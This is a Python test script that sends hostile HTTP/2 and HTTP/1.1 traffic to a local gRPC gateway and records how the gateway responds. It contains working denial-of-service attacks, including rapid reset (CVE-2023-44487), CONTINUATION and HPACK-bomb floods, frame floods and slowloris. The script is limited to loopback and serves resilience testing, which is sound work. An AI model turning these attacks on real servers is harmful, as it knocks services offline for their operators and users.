#!/usr/bin/env python3
"""Hostile HTTP/2 and HTTP/1.1 clients against the meshwork gateway, for
tests/e2e_hostile_clients.rs.

`attack.py ATTACK HOST:PORT` runs one attack (bounded in time and bytes, loopback only) and
prints one JSON line of what the gateway did to the attacking connection(s): `outcome`
("goaway", "closed", "open", "http"), the GOAWAY or RST_STREAM codes seen, HTTP statuses, and
counters. Frames are written by hand (hyperframe's layout, hpack for header blocks, both
shipped with the `h2` package) because a well-behaved library refuses to send most of them.
"""

import json
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CODES = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
    8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED",
}
ECHO = "/meshwork.echo.v1.Echo/Echo"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def grpc_headers(authority, path=ECHO, extra=()):
    return [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers"), *extra,
    ]


def echo_message(text):
    """A gRPC length-prefixed EchoRequest{message: text}."""
    body = text.encode()
    field = b"\x0a" + varint(len(body)) + body
    return b"\x00" + struct.pack(">I", len(field)) + field


def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


class Conn:
    """A raw HTTP/2 connection: writes what it is told, a reader thread records what comes back
    (and answers SETTINGS with an ACK, as any client must)."""

    def __init__(self, addr, settings=b""):
        host, port = addr.rsplit(":", 1)
        self.authority = addr
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.goaway = None
        self.goaway_debug = ""
        self.closed = False
        self.closed_at = None
        self.resets = {}
        self.statuses = {}
        self.grpc_status = {}
        self.frames_in = 0
        self.bytes_in = 0
        # What the gateway lets this side send (RFC 9113 §6.9): the connection's window and
        # the extra credit of each stream over the initial window.
        self.conn_window = 65_535
        self.stream_credit = {}
        self.initial_window = 65_535
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.encoder = hpack.Encoder()
        self.opened = time.monotonic()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.settled = threading.Event()
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()
        # The gateway's SETTINGS are acknowledged before the attack starts: an ACK written by
        # the reader in the middle of a header block would be a protocol error of its own.
        self.settled.wait(5)

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self._mark_closed()
            return False

    def headers(self, stream, headers, end_stream=True):
        block = self.encoder.encode(headers)
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)

    def _mark_closed(self):
        with self.lock:
            if not self.closed:
                self.closed = True
                self.closed_at = time.monotonic() - self.opened

    def _read(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                break
            if not chunk:
                break
            self.bytes_in += len(chunk)
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, flags = buf[3], buf[4]
                stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = buf[9 : 9 + length]
                buf = buf[9 + length :]
                self.frames_in += 1
                self._frame(kind, flags, stream, payload)
        self._mark_closed()

    def _frame(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack(">HI", payload[i : i + 6])
                if ident == 4:
                    self.initial_window = value
            self.send(frame(SETTINGS, ACK, 0))
            self.settled.set()
        elif kind == WINDOW_UPDATE:
            increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            with self.lock:
                if stream == 0:
                    self.conn_window += increment
                else:
                    self.stream_credit[stream] = self.stream_credit.get(stream, 0) + increment
        elif kind == GOAWAY and self.goaway is None:
            code = int.from_bytes(payload[4:8], "big")
            self.goaway = CODES.get(code, str(code))
            self.goaway_debug = payload[8:].decode(errors="replace")
        elif kind == RST_STREAM:
            code = CODES.get(int.from_bytes(payload[:4], "big"), "?")
            self.resets[code] = self.resets.get(code, 0) + 1
        elif kind == HEADERS:
            try:
                headers = self.decoder.decode(payload if not flags & 0x8 else payload[1:], raw=False)
            except Exception:  # noqa: BLE001 - a decoding failure is only a missed count here
                return
            for name, value in headers:
                if name == ":status":
                    self.statuses[value] = self.statuses.get(value, 0) + 1
                elif name == "grpc-status":
                    self.grpc_status[value] = self.grpc_status.get(value, 0) + 1

    def send_data(self, stream, data, end_stream, seconds=10):
        """Sends `data` on `stream` in DATA frames, within the flow-control windows."""
        deadline = time.monotonic() + seconds
        sent_on_stream = 0
        for i in range(0, max(len(data), 1), 16_000):
            part = data[i : i + 16_000]
            while True:
                with self.lock:
                    stream_window = self.initial_window + self.stream_credit.get(stream, 0) - sent_on_stream
                    if len(part) <= min(self.conn_window, stream_window):
                        self.conn_window -= len(part)
                        break
                if self.closed or time.monotonic() > deadline or self.resets or self.grpc_status:
                    return False
                time.sleep(0.005)
            sent_on_stream += len(part)
            last = i + 16_000 >= len(data)
            if not self.send(frame(DATA, END_STREAM if last and end_stream else 0, stream, part)):
                return False
        return True

    def wait_reaction(self, seconds):
        """Waits up to `seconds` for a GOAWAY or the close."""
        until = time.monotonic() + seconds
        while time.monotonic() < until and not self.closed and self.goaway is None:
            time.sleep(0.001)

    def wait_closed(self, seconds):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.closed:
            time.sleep(0.02)
        return self.closed

    def report(self, **extra):
        outcome = "goaway" if self.goaway else "closed" if self.closed else "open"
        out = {
            "outcome": outcome, "goaway": self.goaway, "goaway_debug": self.goaway_debug,
            "closed_after_s": round(self.closed_at, 3) if self.closed_at else None,
            "resets": self.resets, "statuses": self.statuses, "grpc_status": self.grpc_status,
            "frames_in": self.frames_in,
        }
        out.update(extra)
        try:
            self.sock.close()
        except OSError:
            pass
        return out


def rapid_reset(addr):
    """HEADERS then RST_STREAM(CANCEL), in batches, until the gateway stops it (CVE-2023-44487)."""
    c = Conn(addr)
    sent, stream, deadline = 0, 1, time.monotonic() + 5
    while not c.closed and c.goaway is None and time.monotonic() < deadline and sent < 100_000:
        batch = b"".join(
            c.headers(stream + 2 * i, grpc_headers(c.authority), end_stream=False)
            + frame(RST_STREAM, 0, stream + 2 * i, struct.pack(">I", 8))
            for i in range(100)
        )
        stream += 200
        sent += 100
        c.send(batch)
        # Each batch already holds more resets than the limit: give the gateway a moment to
        # answer before the next one, or its close meets the next batch's bytes and arrives as
        # a TCP reset that discards the GOAWAY before this side reads it.
        c.wait_reaction(0.05)
    c.wait_closed(2)
    return c.report(streams_reset=sent)


def continuation_flood(addr):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    c = Conn(addr)
    block = c.encoder.encode(grpc_headers(c.authority))
    c.send(frame(HEADERS, 0, 1, block))
    # Valid literal fields (never indexed), 16 KiB per frame: what a decoder must buffer.
    field = b"\x10" + b"\x05x-pad" + hpack_len("a" * 16_000) + b"a" * 16_000
    sent, deadline = 0, time.monotonic() + 5
    while not c.closed and c.goaway is None and time.monotonic() < deadline and sent < 8192:
        if not c.send(frame(CONTINUATION, 0, 1, field)):
            break
        sent += 1
        # A short pause per 16 KiB frame (still 10+ MB/s): at full speed the gateway's close
        # arrives as a TCP reset that discards its GOAWAY before this side reads it.
        time.sleep(0.002)
    c.wait_closed(2)
    return c.report(continuation_frames=sent, bytes_sent=sent * len(field))


def hpack_bomb(addr):
    """One header of ~4 KiB into the dynamic table, then header blocks that name it thousands
    of times (each reference is one byte on the wire and 4 KiB decoded), on many streams."""
    c = Conn(addr)
    value = "b" * 4000
    # The request's own fields are literals that are not indexed, so that the one entry of the
    # dynamic table is x-big (literal with incremental indexing, 0x40): index 62.
    base = literal_block(grpc_headers(c.authority))
    first = base + b"\x40" + bytes([5]) + b"x-big" + hpack_len(value) + value.encode()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
    refs = b"\xbe" * 15_000  # indexed field 62, 15000 times: ~60 MB decoded per block
    streams = 0
    for i in range(1, 51):
        stream = 1 + 2 * i
        block = base + refs
        # The block does not fit one 16 KiB frame: HEADERS then CONTINUATION.
        payload = frame(HEADERS, END_STREAM, stream, block[:16_000]) + frame(CONTINUATION, END_HEADERS, stream, block[16_000:])
        if not c.send(payload):
            break
        streams += 1
        # As for rapid reset: a moment for the gateway's answer before the next block.
        c.wait_reaction(0.05)
        if c.goaway or c.closed:
            break
    c.wait_closed(2)
    return c.report(streams=streams, decoded_bytes_per_block=15_000 * 4032)


def literal_block(headers):
    """A header block of literal fields without indexing (leaves the dynamic table alone)."""
    out = b""
    for name, value in headers:
        out += b"\x00" + hpack_len(name) + name.encode() + hpack_len(value) + value.encode()
    return out


def hpack_len(value):
    n = len(value)
    if n < 127:
        return bytes([n])
    n -= 127
    out = b"\x7f"
    while n >= 128:
        out += bytes([(n & 0x7F) | 0x80])
        n >>= 7
    return out + bytes([n])


def flood(addr, make, seconds=3, limit=500_000):
    c = Conn(addr)
    sent, deadline = 0, time.monotonic() + seconds
    one = make()
    batch = one * 500
    c.sock.settimeout(1)
    while not c.closed and c.goaway is None and time.monotonic() < deadline and sent < limit:
        if not c.send(batch):
            break
        sent += 500
    return c, sent


def settings_flood(addr):
    """SETTINGS frames (each needing an ACK) as fast as the socket takes them."""
    c, sent = flood(addr, lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)))
    c.wait_closed(2)
    return c.report(frames_sent=sent)


def ping_flood(addr):
    """PING frames (each needing a PONG) as fast as the socket takes them."""
    c, sent = flood(addr, lambda: frame(PING, 0, 0, b"12345678"))
    c.wait_closed(2)
    return c.report(frames_sent=sent)


def window_update_flood(addr):
    """WINDOW_UPDATE(+1) on the connection as fast as the socket takes them, then one that
    overflows the window past 2^31-1."""
    c, sent = flood(addr, lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
    open_after_flood = not c.closed and c.goaway is None
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
    c.wait_closed(3)
    return c.report(frames_sent=sent, open_after_flood=open_after_flood)


def zero_window(addr, streams=300):
    """A window of 0 for every stream that is never opened, with 300 calls asking for 60 KiB
    answers: the gateway can send no DATA and must hold what it buffers within bounds."""
    c = Conn(addr, settings=struct.pack(">HI", 4, 0))
    message = echo_message("z" * 60_000)
    for i in range(streams):
        stream = 1 + 2 * i
        c.send(c.headers(stream, grpc_headers(c.authority), end_stream=False))
        if not c.send_data(stream, message, end_stream=True):
            break
    time.sleep(3)
    return c.report(streams=streams)


def concurrent_streams(addr, streams=1500):
    """Opens more streams than SETTINGS_MAX_CONCURRENT_STREAMS allows, none ever finished."""
    c = Conn(addr)
    batch = b"".join(c.headers(1 + 2 * i, grpc_headers(c.authority), end_stream=False) for i in range(streams))
    c.send(batch)
    time.sleep(2)
    return c.report(streams=streams)


def oversized_headers(addr):
    """h2: a request with 20 KiB of headers then a normal call on the same connection, and on
    another connection one with 64 KiB (HEADERS + CONTINUATION); HTTP/1.1: a 64 KiB head."""
    c = Conn(addr)
    block = literal_block(grpc_headers(c.authority, extra=[("x-big", "c" * 20_000)]))
    c.send(frame(HEADERS, END_STREAM, 1, block[:16_000]) + frame(CONTINUATION, END_HEADERS, 1, block[16_000:]))
    c.send(c.headers(3, grpc_headers(c.authority), end_stream=False))
    c.send_data(3, echo_message("after"), end_stream=True)
    deadline = time.monotonic() + 5
    while not c.grpc_status and time.monotonic() < deadline and not c.closed:
        time.sleep(0.02)
    over = c.report()
    c = Conn(addr)
    block = literal_block(grpc_headers(c.authority, extra=[("x-big", "c" * 65_536)]))
    parts = [block[i : i + 16_000] for i in range(0, len(block), 16_000)]
    data = frame(HEADERS, END_STREAM, 1, parts[0])
    for i, part in enumerate(parts[1:], 1):
        data += frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, 1, part)
    c.send(data)
    c.wait_closed(2)
    far_over = c.report()
    head = "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + "d" * 65_536 + "\r\n\r\n"
    return {"h2": over, "h2_far_over": far_over, "h1": http1_once(addr, head.encode())}


def oversized_message(addr):
    """A gRPC message of 6 MiB (over the 4 MiB cap), sent whole within flow control, then
    one that announces 100 MiB and ends after 1 MiB; then a normal call on the connection."""
    c = Conn(addr)
    time.sleep(0.2)
    big = echo_message("m" * (6 << 20))
    c.send(c.headers(1, grpc_headers(c.authority), end_stream=False))
    whole = c.send_data(1, big, end_stream=True, seconds=20)
    c.send(c.headers(3, grpc_headers(c.authority), end_stream=False))
    c.send_data(3, b"\x00" + struct.pack(">I", 100 << 20) + b"\x0a" * (1 << 20), end_stream=True)
    c.send(c.headers(5, grpc_headers(c.authority), end_stream=False))
    c.send_data(5, echo_message("after"), end_stream=True)
    deadline = time.monotonic() + 10
    while sum(c.grpc_status.values()) < 3 and time.monotonic() < deadline and not c.closed:
        time.sleep(0.02)
    return c.report(sent_whole=whole)


def http1_once(addr, request, read_for=5):
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=read_for)
    try:
        s.sendall(request)
    except OSError:
        pass
    raw = b""
    try:
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            raw += chunk
    except OSError:
        pass
    s.close()
    status = int(raw.split(b" ")[1]) if raw.startswith(b"HTTP/1.") else None
    return {"outcome": "http" if status else "closed", "status": status}


def slowloris(addr, mode, conns=100, seconds=12):
    """`conns` connections, each trickling a request one byte every 100 ms (`h1`: an HTTP/1.1
    head; `h2`: a HEADERS frame after the preface; `preface`: the HTTP/2 preface itself;
    `silent`: nothing at all, a half-open connection; `h2_silent`: the preface and SETTINGS,
    then nothing). Reports when each got closed and what
    it was answered."""
    host, port = addr.rsplit(":", 1)
    enc = hpack.Encoder()
    if mode == "h1":
        prefix, payload = b"", b"POST /meshwork.echo.v1.Echo/Echo HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: y\r\n" * 400
    elif mode == "h2":
        prefix = PREFACE + frame(SETTINGS, 0, 0)
        payload = frame(HEADERS, END_HEADERS, 1, enc.encode(grpc_headers(addr) + [("x-slow", "y" * 600)]))
    elif mode == "h2_silent":
        prefix, payload = PREFACE + frame(SETTINGS, 0, 0), b""
    elif mode == "preface":
        prefix, payload = b"", PREFACE * 20
    else:
        prefix, payload = b"", b""
    socks = []
    for _ in range(conns):
        s = socket.create_connection((host, int(port)), timeout=5)
        s.setblocking(False)
        if prefix:
            s.sendall(prefix)
        socks.append({"s": s, "sent": 0, "closed": None, "answer": b""})
    start = time.monotonic()
    while time.monotonic() - start < seconds and any(x["closed"] is None for x in socks):
        for x in socks:
            if x["closed"] is not None:
                continue
            try:
                data = x["s"].recv(65536)
                if data:
                    x["answer"] += data
                else:
                    x["closed"] = time.monotonic() - start
                    continue
            except BlockingIOError:
                pass
            except OSError:
                x["closed"] = time.monotonic() - start
                continue
            if x["sent"] < len(payload):
                try:
                    x["s"].send(payload[x["sent"] : x["sent"] + 1])
                    x["sent"] += 1
                except BlockingIOError:
                    pass
                except OSError:
                    x["closed"] = time.monotonic() - start
        time.sleep(0.1)
    closed = [x["closed"] for x in socks if x["closed"] is not None]
    statuses = {}
    goaways = {}
    for x in socks:
        a = x["answer"]
        if a.startswith(b"HTTP/1."):
            code = a.split(b" ")[1].decode()
            statuses[code] = statuses.get(code, 0) + 1
        # An h2 GOAWAY anywhere in what came back (after the server's SETTINGS).
        i = a.find(bytes([GOAWAY]) + b"\x00\x00\x00\x00\x00", 3)
        if i >= 3 and len(a) >= i + 14:
            code = CODES.get(int.from_bytes(a[i + 10 : i + 14], "big"), "?")
            goaways[code] = goaways.get(code, 0) + 1
        x["s"].close()
    return {
        "outcome": "closed" if len(closed) == conns else "open",
        "connections": conns,
        "closed": len(closed),
        "closed_after_s_max": round(max(closed), 3) if closed else None,
        "closed_after_s_min": round(min(closed), 3) if closed else None,
        "bytes_trickled_max": max(x["sent"] for x in socks),
        "statuses": statuses,
        "goaways": goaways,
    }


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "window_update_flood": window_update_flood,
    "zero_window": zero_window,
    "concurrent_streams": concurrent_streams,
    "oversized_headers": oversized_headers,
    "oversized_message": oversized_message,
    "slowloris_h1": lambda a: slowloris(a, "h1"),
    "slowloris_h2": lambda a: slowloris(a, "h2"),
    "slowloris_preface": lambda a: slowloris(a, "preface", conns=50),
    "half_open": lambda a: slowloris(a, "silent", conns=200),
    "half_open_h2": lambda a: slowloris(a, "h2_silent", conns=200),
}


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: attack.py {{{','.join(ATTACKS)}}} HOST:PORT")
    host = sys.argv[2].rsplit(":", 1)[0]
    if host not in ("127.0.0.1", "localhost", "::1", "[::1]"):
        sys.exit("attack.py only attacks a gateway on the loopback")
    started = time.monotonic()
    result = ATTACKS[sys.argv[1]](sys.argv[2])
    result["attack"] = sys.argv[1]
    result["elapsed_s"] = round(time.monotonic() - started, 3)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
